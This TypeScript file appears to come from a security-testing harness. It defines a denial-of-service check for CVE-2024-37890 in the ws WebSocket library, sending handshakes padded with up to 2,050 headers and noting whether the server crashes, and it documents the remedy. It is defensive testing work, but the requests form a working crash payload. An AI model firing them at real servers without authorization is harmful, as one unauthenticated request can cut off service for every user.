import { HarnessError } from '../../../errors.ts'
import { crashAttack } from '../../kit/crash-attack.ts'
import { fetchPath } from '../../kit/fetch-path.ts'

const upgrade = [
  ['Connection', 'Upgrade'],
  ['Upgrade', 'websocket'],
  ['Sec-WebSocket-Version', '13'],
  ['Sec-WebSocket-Key', 'AAAAAAAAAAAAAAAAAAAAAA=='],
] as const
/** Node keeps 2,000 unless told otherwise, and newer versions refuse fewer; short ones push those behind them out. */
const counts = [120, 480, 1_000, 2_050]
const many = (count: number) => Array.from({ length: count }, (): readonly [string, string] => ['a', 'b'])

export default crashAttack({
  id: 'dos/http-header-flood',
  rows: ['dos.http.header-flood'],
  title: 'Handshakes with more headers than Node keeps, before and behind those of the upgrade',
  requirement: 'CVE-2024-37890: a header that is missing is an error of the request, not of the server',
  impact: 'One request, of someone who never logged in, ends the chat for everybody.',
  remedy: 'Keep ws at 8.17.1 or later (npm ls ws); leave server.maxHeadersCount as it is.',
  severity: 'high',
  cwe: ['CWE-476', 'CWE-248'],
  references: ['CVE-2024-37890'],
  provenBy: 'old-ws',
  needs: ['websocket'],
  steps(context) {
    const { profile } = context.target
    const path = `${profile.path.replace(/\/?$/, '/')}?EIO=${profile.protocol.eio}&transport=`
    const requests = counts.map(many).flatMap((more) => [
      { name: `${more.length} headers before an upgrade`, path: `${path}websocket`, headers: [...more, ...upgrade] },
      { name: `${more.length} headers behind an upgrade`, path: `${path}websocket`, headers: [...upgrade, ...more] },
      { name: `${more.length} headers of a polling handshake`, path: `${path}polling`, headers: more },
    ])
    return requests.map(({ name, ...parts }) => ({
      name,
      async act() {
        try {
          return `HTTP ${(await fetchPath(context, parts.path, parts)).status}`
        } catch (error) {
          if (error instanceof HarnessError && error.code === 'connection-lost') return 'hung up'
          throw error
        }
      },
    }))
  },
})
